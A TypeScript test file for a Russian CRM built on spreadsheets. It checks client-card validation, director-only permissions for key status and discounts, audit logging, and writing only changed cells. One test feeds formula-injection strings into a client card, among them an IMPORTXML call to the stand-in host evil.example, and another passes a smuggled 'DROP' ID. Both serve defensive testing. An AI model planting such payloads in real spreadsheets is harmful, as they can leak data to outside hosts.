/**
 * updateClient through the local runtime: field checks in Russian, whose client
 * a specialist may change, the director's «Ключевой» and discounts (2.10), the
 * log, cells written only when they change, text kept as text, and the move of
 * a deal once its missing client fields are saved.
 */
import { MEMORY_SHEET } from '../../src/adapter/value-memory';
import { SHEETS } from '../../src/domain/workbook/schema';
import type { ClientCardDto, MoveDealResult, UpdateClientResult } from '../../src/shared/api';
import type { CellValue, WorkbookModel } from '../../local/runtime/model';
import type { LocalRuntimeSession } from '../../local/runtime';
import {
  CLIENT_A,
  DIRECTOR,
  IVANOV,
  PETROVA,
  cell,
  columnOf,
  crmSession,
  crmWorkbook,
  rowsOf,
  type Row,
  NEW_DEAL,
} from './crm-workbook';

function update(session: LocalRuntimeSession, fields: Record<string, unknown>, id = 'К-00001'): UpdateClientResult {
  return session.run('updateClient', [id, fields]) as UpdateClientResult;
}

function clientLog(workbook: WorkbookModel): Row[] {
  return rowsOf(workbook, SHEETS.log).filter((r) => r['Лист'] === SHEETS.clients && r['Действие'] === 'Изменение поля');
}

function clientRow(workbook: WorkbookModel): Row {
  return rowsOf(workbook, SHEETS.clients)[0];
}

/** Every value the script writes with Range.setValue / setValues during `fn`, as rows of cells. */
function writesDuring(session: LocalRuntimeSession, fn: () => void): unknown[][][] {
  const writes: unknown[][][] = [];
  const stop = session.onServiceCall((call, args) => {
    if (call === 'Range.setValue') writes.push([[args[0]]]);
    if (call === 'Range.setValues') writes.push(args[0] as unknown[][]);
    // a single row appended («Журнал», the memory) is one appendRow
    if (call === 'Sheet.appendRow') writes.push([args[0] as unknown[]]);
  });
  try {
    fn();
  } finally {
    stop();
  }
  return writes;
}

describe('updateClient validation', () => {
  it('returns a Russian message per wrong field and writes nothing', () => {
    const session = crmSession(crmWorkbook(), IVANOV);
    const before = clientRow(session.workbook);
    const result = update(session, {
      ИНН: '7707083894',
      Телефон: '12345',
      Email: 'info@',
      Источник: 'Газета',
      'Следующий контакт': '31.02.2026',
      Клиент: '',
      Город: 'Казань',
    });
    expect(result).toEqual({
      status: 'invalid',
      errors: {
        ИНН: 'ИНН «7707083894» не проходит проверку контрольных цифр — проверьте, нет ли опечатки',
        Телефон: '«Телефон»: не российский номер телефона (например, +7 912 345-67-89)',
        Email: '«Email»: неверный адрес e-mail',
        Источник: expect.stringMatching(/^«Источник»: выберите одно из значений: Реклама, Выставка/),
        'Следующий контакт': '«Следующий контакт»: нужна дата дд.мм.гггг',
        Клиент: 'Укажите название клиента или ФИО',
      },
    });
    // the valid «Город» is not saved either: a form is saved whole or not at all
    expect(clientRow(session.workbook)).toEqual(before);
    expect(clientLog(session.workbook)).toEqual([]);
  });

  it('checks the ИНН length by the client type, including a kept ИНН when only the type changes', () => {
    const session = crmSession(crmWorkbook(), IVANOV);
    expect(update(session, { ИНН: '500100732259' })).toEqual({
      status: 'invalid',
      errors: { ИНН: 'ИНН для типа «Юрлицо» должен содержать 10 цифр, а в «500100732259» их 12' },
    });
    expect(update(session, { Тип: 'ИП' })).toEqual({
      status: 'invalid',
      errors: { ИНН: 'ИНН для типа «ИП» должен содержать 12 цифр, а в «7707083893» их 10' },
    });
    expect(update(session, { Тип: 'ИП', ИНН: '500100732259' })).toMatchObject({ status: 'saved' });
    expect(clientRow(session.workbook)).toMatchObject({ Тип: 'ИП', ИНН: '500100732259' });
  });

  it('normalises the phone and lower-cases the e-mail, and refuses to leave the client with neither', () => {
    const session = crmSession(crmWorkbook(), IVANOV);
    const saved = update(session, { Телефон: '8 (495) 111-22-33', Email: 'Sales@Teplo.RU' });
    expect(saved.status).toBe('saved');
    expect((saved as { card: ClientCardDto }).card.fields).toMatchObject({
      Телефон: '+74951112233',
      Email: 'sales@teplo.ru',
    });
    expect(clientRow(session.workbook)).toMatchObject({ Телефон: '+74951112233', Email: 'sales@teplo.ru' });
    expect(update(session, { Телефон: '', Email: '' })).toEqual({
      status: 'invalid',
      errors: { Телефон: 'Укажите телефон или e-mail' },
    });
  });

  it('checks its arguments', () => {
    const session = crmSession(crmWorkbook(), IVANOV);
    expect(() => session.run('updateClient', ['К-1; DROP', {}])).toThrow(/не ID вида К-00001/);
    expect(() => update(session, { 'ID клиента': 'К-00009' })).toThrow(/Поле «ID клиента» нельзя изменить здесь/);
    expect(() => update(session, { 'Дата создания': '01.01.2026' })).toThrow(/нельзя изменить/);
    expect(() => update(session, { Город: 42 })).toThrow(/«Город» должно быть строкой/);
    expect(() => session.run('updateClient', ['К-00001', 'Казань'])).toThrow(/набором полей/);
    expect(() => update(session, { Город: 'Казань' }, 'К-00042')).toThrow(/Клиента «К-00042» нет на листе «Клиенты»/);
  });
});

describe('updateClient permissions (2.10)', () => {
  it('refuses another specialist\u2019s client and changes nothing', () => {
    const session = crmSession(crmWorkbook(), PETROVA);
    const before = clientRow(session.workbook);
    expect(() => update(session, { Город: 'Тверь' })).toThrow(
      `Клиента К-00001 ведёт другой сотрудник (${IVANOV}); изменить может он или директор`,
    );
    expect(clientRow(session.workbook)).toEqual(before);
  });

  it('never lets a specialist set «Ключевой», a discount or another «Ответственный»', () => {
    const session = crmSession(crmWorkbook(), IVANOV);
    expect(update(session, { 'Статус клиента': 'Ключевой', 'Скидка, %': '5' })).toEqual({
      status: 'invalid',
      errors: {
        'Статус клиента': 'Статус «Ключевой» присваивает только директор (п. 2.10)',
        'Скидка, %': 'Скидку назначает только директор (п. 2.10)',
      },
    });
    expect(update(session, { Ответственный: PETROVA })).toEqual({
      status: 'invalid',
      errors: { Ответственный: 'Ответственного за клиента назначает директор' },
    });
    // even on a client the director already made «Ключевой»
    const key = crmSession(crmWorkbook({ clients: [{ ...CLIENT_A, 'Статус клиента': 'Ключевой' }] }), IVANOV);
    expect(update(key, { 'Скидка, %': '5' })).toEqual({
      status: 'invalid',
      errors: { 'Скидка, %': 'Скидку назначает только директор (п. 2.10)' },
    });
    expect(update(key, { 'Статус клиента': 'Клиент' })).toEqual({
      status: 'invalid',
      errors: { 'Статус клиента': 'Статус «Ключевой» снимает только директор (п. 2.10)' },
    });
    // other statuses are the specialist's to set
    expect(update(session, { 'Статус клиента': 'Неактивный' })).toMatchObject({ status: 'saved' });
  });

  it('lets the director set «Ключевой» with a discount up to the maximum, and remembers both for the sheet check', () => {
    const session = crmSession(crmWorkbook(), DIRECTOR);
    expect(update(session, { 'Скидка, %': '10' })).toEqual({
      status: 'invalid',
      errors: {
        'Скидка, %':
          'Скидка возможна только для клиентов со статусом «Ключевой» (п. 2.10); сейчас статус «Потенциальный»',
      },
    });
    expect(update(session, { 'Статус клиента': 'Ключевой', 'Скидка, %': '20' })).toEqual({
      status: 'invalid',
      errors: { 'Скидка, %': 'Скидка 20 % больше максимальной 15 % из листа «Настройки»' },
    });
    const saved = update(session, { 'Статус клиента': 'Ключевой', 'Скидка, %': '10' });
    expect(saved).toMatchObject({
      status: 'saved',
      card: { fields: { 'Статус клиента': 'Ключевой', 'Скидка, %': '10' } },
    });
    expect(clientRow(session.workbook)).toMatchObject({ 'Статус клиента': 'Ключевой', 'Скидка, %': 10 });
    const memory = rowsOf(session.workbook, MEMORY_SHEET).filter((r) => r['ID'] === 'К-00001');
    expect(memory.map((r) => [r['Поле'], r['Значение']])).toEqual(
      expect.arrayContaining([
        ['Статус клиента', 'Ключевой'],
        ['Скидка, %', '10'],
      ]),
    );
    // taking «Ключевой» away while the discount stays is refused
    expect(update(session, { 'Статус клиента': 'Клиент' })).toEqual({
      status: 'invalid',
      errors: {
        'Скидка, %': 'Скидка возможна только для клиентов со статусом «Ключевой» (п. 2.10); сейчас статус «Клиент»',
      },
    });
    expect(update(session, { 'Статус клиента': 'Клиент', 'Скидка, %': '' })).toMatchObject({ status: 'saved' });
  });

  it('lets the director change another specialist\u2019s client and its «Ответственный»', () => {
    const session = crmSession(crmWorkbook(), DIRECTOR);
    expect(update(session, { Ответственный: PETROVA, Город: 'Тверь' })).toMatchObject({ status: 'saved' });
    expect(clientRow(session.workbook)).toMatchObject({ Ответственный: PETROVA, Город: 'Тверь' });
  });
});

describe('updateClient writes', () => {
  it('logs each changed field with its old and new value', () => {
    const session = crmSession(crmWorkbook(), DIRECTOR);
    update(session, { Город: 'Казань', 'Контактное лицо': 'Петров П. П.', Источник: 'Выставка' });
    const row = (r: Row) => [r['Пользователь'], r['ID'], r['Поле'], r['Было'], r['Стало'], r['Комментарий']];
    expect(clientLog(session.workbook).map(row)).toEqual([
      [DIRECTOR, 'К-00001', 'Город', null, 'Казань', 'Карточка клиента'],
      [DIRECTOR, 'К-00001', 'Контактное лицо', null, 'Петров П. П.', 'Карточка клиента'],
    ]);
    // a specialist cannot write the director's «Журнал»: the entry waits and goes in with the director's next one
    session.runAs(IVANOV, 'updateClient', ['К-00001', { Город: 'Самара' }]);
    expect(clientLog(session.workbook)).toHaveLength(2);
    update(session, { Примечание: 'Оптовик' });
    expect(clientLog(session.workbook).slice(2).map(row)).toEqual([
      [IVANOV, 'К-00001', 'Город', 'Казань', 'Самара', 'Карточка клиента'],
      [DIRECTOR, 'К-00001', 'Примечание', null, 'Оптовик', 'Карточка клиента'],
    ]);
  });

  it('keeps an entry a specialist queues while the director\u2019s run is writing out the queue', () => {
    const session = crmSession(crmWorkbook({ deals: [NEW_DEAL] }), DIRECTOR);
    session.runAs(IVANOV, 'updateClient', ['К-00001', { Город: 'Самара' }]);
    // Иванов moves his deal in the sheet: the check runs as the director and writes out the queue;
    // while it writes the queued entry into «Журнал», Иванов saves the card again (an overlapping execution).
    // The director's run holds the document lock, so his save waits for it (here: is told to retry, and does)
    let overlapped: unknown = null;
    const stop = session.onServiceCall((call, args) => {
      const writesQueuedEntry =
        (call === 'Range.setValues' || call === 'Sheet.appendRow') && JSON.stringify(args[0]).includes('Самара');
      if (overlapped || !writesQueuedEntry) return;
      try {
        overlapped = session.runAs(IVANOV, 'updateClient', ['К-00001', { Город: 'Тверь' }]);
      } catch (error) {
        overlapped = error;
      }
    });
    session.setUser(IVANOV);
    session.edit({
      sheet: SHEETS.deals,
      row: 2,
      column: columnOf(session.workbook, SHEETS.deals, 'Этап'),
      values: [['Потребность выявлена']],
    });
    stop();
    expect(String((overlapped as Error).message)).toMatch(/другой пользователь/);
    session.runAs(IVANOV, 'updateClient', ['К-00001', { Город: 'Тверь' }]);
    const ivanov = () =>
      clientLog(session.workbook)
        .filter((r) => r['Пользователь'] === IVANOV)
        .map((r) => r['Стало']);
    expect(ivanov()).toEqual(['Самара']);
    session.setUser(DIRECTOR);
    update(session, { Примечание: 'Оптовик' });
    expect(ivanov()).toEqual(['Самара', 'Тверь']);
  });

  it('writes only the cells that change: unchanged fields and formulas stay as they are', () => {
    const workbook = crmWorkbook({ clients: [{ ...CLIENT_A, 'Скидка, %': 0 }] });
    const session = crmSession(workbook, DIRECTOR);
    const sheet = session.workbook.sheets.find((s) => s.name === SHEETS.clients)!;
    const noteCol = columnOf(session.workbook, SHEETS.clients, 'Примечание') - 1;
    sheet.rows[1]![noteCol] = { value: 'ПОСТОЯННЫЙ', formula: '=UPPER("постоянный")' };
    const same = {
      Клиент: 'ООО «Тепло»',
      Тип: 'Юрлицо',
      ИНН: '7707083893',
      Телефон: '8 912 345-67-89',
      Email: 'INFO@teplo.ru',
      Источник: 'Выставка',
      'Статус клиента': 'Потенциальный',
      'Скидка, %': '0',
      Примечание: 'ПОСТОЯННЫЙ',
    };
    const none = writesDuring(session, () => expect(update(session, same)).toMatchObject({ status: 'saved' }));
    expect(none).toEqual([]);
    expect(clientLog(session.workbook)).toEqual([]);

    const writes = writesDuring(session, () => update(session, { ...same, Город: 'Казань' }));
    // one write of the changed cell, one of its «Журнал» row (9 columns)
    expect(writes.filter((w) => w[0].length !== 9)).toEqual([[['Казань']]]);
    expect(writes.filter((w) => w[0].length === 9)).toHaveLength(1);
    expect(sheet.rows[1]![noteCol]).toMatchObject({ formula: '=UPPER("постоянный")' });
    expect(cell(session.workbook, SHEETS.clients, 2, 'Город')).toBe('Казань');
  });

  it('keeps text that starts with =, +, - or @, or looks like a number, as text', () => {
    const session = crmSession(crmWorkbook(), IVANOV);
    const injections: Record<string, string> = {
      'Контактное лицо': '=IMPORTXML("http://evil.example/x","//a")',
      Город: '+SUM(1,2)',
      'Особые условия': '-1+2',
      Примечание: '@import',
    };
    expect(update(session, { ...injections, Источник: 'Сайт' })).toMatchObject({ status: 'saved' });
    const sheet = session.workbook.sheets.find((s) => s.name === SHEETS.clients)!;
    for (const [header, text] of Object.entries(injections)) {
      const model = sheet.rows[1]![columnOf(session.workbook, SHEETS.clients, header) - 1]!;
      expect([header, model.value, model.formula]).toEqual([header, text, undefined]);
    }
    expect(update(session, { Город: '12,5' })).toMatchObject({ status: 'saved' });
    expect(cell(session.workbook, SHEETS.clients, 2, 'Город')).toBe('12,5');
  });
});

describe('a move that needs client fields', () => {
  function move(session: LocalRuntimeSession, to: string): MoveDealResult {
    return session.run('moveDeal', ['С-00001', to, {}]) as MoveDealResult;
  }

  it('moves once the client\u2019s «Источник» is saved with updateClient', () => {
    const clients = [{ ...CLIENT_A, Источник: '' as CellValue }];
    const session = crmSession(crmWorkbook({ clients, deals: [NEW_DEAL] }), IVANOV);
    expect(move(session, 'Потребность выявлена')).toMatchObject({
      ok: false,
      missing: [{ header: 'Источник', on: 'client', message: '«Источник» в карточке клиента не заполнено' }],
    });
    expect(update(session, { Источник: 'Рекомендация' })).toMatchObject({ status: 'saved' });
    expect(move(session, 'Потребность выявлена')).toMatchObject({ ok: true, stage: 'Потребность выявлена' });
    expect(cell(session.workbook, SHEETS.deals, 2, 'Этап')).toBe('Потребность выявлена');
  });

  it('moves a Юрлицо to «Надёжность оценена» only with an ИНН that passes the checksum', () => {
    const clients = [{ ...CLIENT_A, ИНН: '' as CellValue }];
    const deal = { ...NEW_DEAL, Этап: 'Потребность выявлена' };
    const session = crmSession(crmWorkbook({ clients, deals: [deal] }), IVANOV);
    expect(move(session, 'Надёжность оценена')).toMatchObject({
      ok: false,
      missing: [{ header: 'ИНН', on: 'client', message: 'ИНН не заполнен (карточка клиента)' }],
    });
    expect(update(session, { ИНН: '7707083894' })).toEqual({
      status: 'invalid',
      errors: { ИНН: 'ИНН «7707083894» не проходит проверку контрольных цифр — проверьте, нет ли опечатки' },
    });
    expect(move(session, 'Надёжность оценена')).toMatchObject({ ok: false });
    const saved = update(session, { ИНН: '7707083893' });
    const card = (saved as { card: ClientCardDto }).card;
    // the card that comes back already offers the move
    expect(card.deals[0].moves.find((m) => m.to === 'Надёжность оценена')).toMatchObject({ allowed: true });
    expect(move(session, 'Надёжность оценена')).toMatchObject({ ok: true });
  });
});
